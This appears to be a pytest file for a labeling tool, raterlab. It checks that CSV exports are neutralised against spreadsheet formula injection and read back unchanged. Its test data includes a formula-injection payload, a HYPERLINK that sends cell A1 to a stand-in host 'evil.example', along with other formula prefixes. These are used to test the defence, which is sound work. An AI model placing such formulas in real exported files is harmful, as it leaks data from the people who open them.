"""Every CSV a person may open is neutralised against formula injection (one helper,
:mod:`raterlab.csvsafe`), and what raterlab neutralised reads back as it was."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from raterlab import warehouse
from raterlab.cli import main
from raterlab.csvsafe import FORMULA_PREFIXES, csv_text, for_people, restore, write_csv
from raterlab.ingest import ingest_file, read_returned
from raterlab.judges.verdicts import imported_verdicts, store_imported
from tests.conftest import REPO
from tests.ingest.conftest import filled, template, write

DANGEROUS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _inert(text: str) -> bool:
    return not any(cell.startswith(FORMULA_PREFIXES) for cell in _cells(text))


def test_history_csv_is_neutralised(issued, tmp_path, monkeypatch, capsys) -> None:
    study, home, _, _ = issued
    frame = filled(home, "a1", "main-01", "answer")
    for n, note in enumerate(DANGEROUS):
        frame.loc[n, "notes"] = note
    with warehouse.connect(home.warehouse) as con:
        assert ingest_file(study, write(frame, tmp_path / "a1.csv"), home, con).status == (
            "accepted"
        )
        stored = {v for (v,) in con.execute("SELECT value FROM gold.labels").fetchall()}
    assert set(DANGEROUS) <= stored  # the warehouse keeps what was written
    monkeypatch.setenv("RATERLAB_HOME", str(home.root))
    assert main(["history", "--study", "mini", "--annotator", "a1", "--csv"]) == 0
    printed = capsys.readouterr().out
    assert _inert(printed)
    back = pd.read_csv(io.StringIO(printed), dtype=str, keep_default_na=False)
    assert set(back["value"]) >= {"'" + d for d in DANGEROUS}


def test_a_neutralised_cell_reads_back_as_it_was(issued, tmp_path) -> None:
    """A cell comes back with the quote a CSV writer gave it (a spreadsheet keeps it); it is
    stored as the text it stands for."""
    study, home, _, _ = issued
    frame = filled(home, "a1", "main-01", "answer")
    frame.loc[0, "notes"] = "'=1+1"
    frame.loc[1, "notes"] = "'not a formula"
    with warehouse.connect(home.warehouse) as con:
        result = ingest_file(study, write(frame, tmp_path / "a1.csv"), home, con)
        notes = {
            v
            for (v,) in con.execute(
                "SELECT value FROM gold.labels WHERE field = 'notes'"
            ).fetchall()
        }
    assert result.status == "accepted"
    assert {"=1+1", "'not a formula"} <= notes


def test_the_reader_takes_the_quote_off_every_column(tmp_path) -> None:
    path = tmp_path / "r.csv"
    path.write_text('annotator_id,item,notes\n\'-a1,\'@tok,"\'=HYPERLINK(""x"")"\n')
    frame = read_returned(path)
    assert frame[["annotator_id", "item", "notes"]].iloc[0].tolist() == [
        "-a1",
        "@tok",
        '=HYPERLINK("x")',
    ]


def test_packet_templates_carry_no_formula(issued) -> None:
    _, home, _, _ = issued
    assert _inert(template(home, "a1", "main-01", "answer").read_text())


@pytest.mark.parametrize("cell", [*DANGEROUS, "\tx"])
def test_restore_undoes_neutralise(cell) -> None:
    (written,) = _cells(csv_text(pd.DataFrame({"c": [cell]})))[1:]
    assert written == "'" + cell
    assert restore(written) == cell


def test_numbers_dates_and_missing_cells_are_written_as_they_are(tmp_path) -> None:
    frame = pd.DataFrame(
        {
            "n": [-3.5, 2.0],
            "when": pd.to_datetime(["2026-01-01", None]),
            "text": ["-x", None],
            "listed": [["=a", "b"], None],
        }
    )
    out = for_people(frame)
    assert out["n"].tolist() == [-3.5, 2.0]
    assert out["text"].tolist()[0] == "'-x" and pd.isna(out["text"].iloc[1])
    assert out["listed"].tolist()[0] == "['=a', 'b']"  # a list is written as its text...
    back = pd.read_csv(write_csv(frame, tmp_path / "f.csv"), dtype=str, keep_default_na=False)
    assert back["n"].tolist() == ["-3.5", "2.0"] and back["text"].tolist() == ["'-x", ""]
    assert not (tmp_path / "f.csv.partial").exists()


def test_stored_judge_verdicts_are_neutralised_and_read_back(tmp_path) -> None:
    verdicts = pd.DataFrame(
        {
            "judge": ["gpt"],
            "task": ["answer"],
            "item_id": ["ans-001"],
            "field": ["score"],
            "value": ["-1"],
            "raw": ["-1"],
            "confidence": [0.5],
            "rationale": ['=HYPERLINK("http://x")'],
            "round": ["import"],
        }
    )
    (path,) = store_imported(verdicts, tmp_path)
    assert _inert(path.read_text())
    back = imported_verdicts(tmp_path)
    assert back["rationale"].tolist() == ['=HYPERLINK("http://x")']
    assert back["value"].tolist() == ["-1"]


WRITERS = {"to_csv", "write_csv", "writer", "DictWriter", "sink_csv"}
"""Calls that write CSV: pandas, Polars, the csv module."""
EXEMPT = {
    "raterlab/csvsafe.py": "the helper itself",
    "raterlab/simulate": "simulated annotators' returns (test data, read by the ingest only)",
}


def _csv_writers() -> list[tuple[str, int]]:
    found = []
    for path in sorted((REPO / "raterlab").rglob("*.py")):
        name = path.relative_to(REPO).as_posix()
        if any(name.startswith(e) for e in EXEMPT):
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            call = isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
            if call and node.func.attr in WRITERS:
                found.append((name, node.lineno))
    return found


@pytest.mark.parametrize(("module", "line"), _csv_writers())
def test_every_csv_writer_neutralises(module: str, line: int) -> None:
    """Each CSV writer's module takes its cells through raterlab.csvsafe: a writer that does
    not (a new export, a new report) fails here."""
    tree = ast.parse((REPO / module).read_text())
    imported = {
        alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module == "raterlab.csvsafe"
        for alias in node.names
    } | {
        alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module == "raterlab.design.packets"
        for alias in node.names
        if alias.name == "neutralise"
    }
    assert imported & {"for_people", "neutralise", "write_csv", "csv_text"}, (
        f"{module}:{line} writes CSV without raterlab.csvsafe"
    )
    if "to_csv" in (REPO / module).read_text().splitlines()[line - 1]:
        assert "for_people(" in (REPO / module).read_text().splitlines()[line - 1], (
            f"{module}:{line}: pandas' to_csv of a frame not neutralised"
        )


def test_the_writer_scan_finds_writers() -> None:
    """The scan above is not vacuous: it sees the packet writer and the issues report."""
    modules = {m for m, _ in _csv_writers()}
    assert {"raterlab/design/packets.py", "raterlab/ingest/issue_report.py"} <= modules
    assert all(Path(REPO / m).exists() for m in modules)


def test_the_labeling_tools_return_is_neutralised_and_reads_back() -> None:
    from raterlab.csvsafe import rows_csv

    text = rows_csv(["item", "notes"], [{"item": "tok1", "notes": "=HYPERLINK(1)"}]).decode()
    assert text.splitlines()[1] == "tok1,'=HYPERLINK(1)"
    assert restore("'=HYPERLINK(1)") == "=HYPERLINK(1)"
